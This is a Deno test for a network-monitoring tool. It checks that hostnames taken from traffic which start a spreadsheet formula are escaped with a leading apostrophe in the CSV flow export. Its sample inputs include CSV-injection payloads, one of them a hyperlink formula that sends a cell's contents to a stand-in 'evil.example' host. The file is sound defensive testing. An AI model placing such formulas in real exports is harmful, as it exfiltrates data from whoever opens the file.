// CSV injection: names learnt from traffic that a spreadsheet would run as formulas reach the
// flows CSV export as text (a leading '), while the JSON API keeps them as sent.

import assert from "node:assert/strict";
import { startServer } from "./helpers/serve.ts";
import { writeNamedHttp } from "./helpers/named_http.ts";

/** Host headers a client on the network chose, each a formula to a spreadsheet but the last. */
const NAMES = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@sum(1+1)",
  '=hyperlink("http://evil.example/?"&a1,"x")',
  "plain.example",
];

/** The cells of one RFC 4180 line (quoted cells unquoted). */
function cells(line: string): string[] {
  const out: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = cell.exec(line); m && m.index < line.length; m = cell.exec(line)) {
    out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replaceAll('""', '"') : m[1]);
    if (m[2] === "") break;
  }
  return out;
}

Deno.test("names learnt from traffic that start a formula are text in the flows CSV", async () => {
  const dir = await Deno.makeTempDir({ prefix: "netwatch-csv-" });
  const file = `${dir}/formulas.pcap`;
  writeNamedHttp(file, NAMES);
  const server = await startServer(file);
  try {
    const json = await (await fetch(`${server.base}/api/v1/flows?limit=100`)).json();
    const sent = json.flows.map((f: { server_name: string | null }) => f.server_name);
    for (const name of NAMES) assert.ok(sent.includes(name), `JSON lacks ${name}: ${sent}`);

    const response = await fetch(`${server.base}/api/v1/flows?limit=100&format=csv`);
    assert.equal(response.status, 200);
    const lines = (await response.text()).trimEnd().split("\r\n");
    const column = cells(lines[0]).indexOf("server_name");
    assert.ok(column >= 0, lines[0]);
    const names = lines.slice(1).map((line) => cells(line)[column]).filter((n) => n !== "");
    assert.equal(names.length, NAMES.length, names.join(" | "));
    for (const name of names) {
      assert.doesNotMatch(name, /^[=+\-@\t\r]/, `a spreadsheet would run ${name}`);
    }
    for (const name of NAMES) {
      const shown = /^[=+\-@]/.test(name) ? `'${name}` : name;
      assert.ok(names.includes(shown), `CSV lacks ${shown}: ${names.join(" | ")}`);
    }
  } finally {
    assert.equal(await server.stop(), 0);
    await Deno.remove(dir, { recursive: true });
  }
});
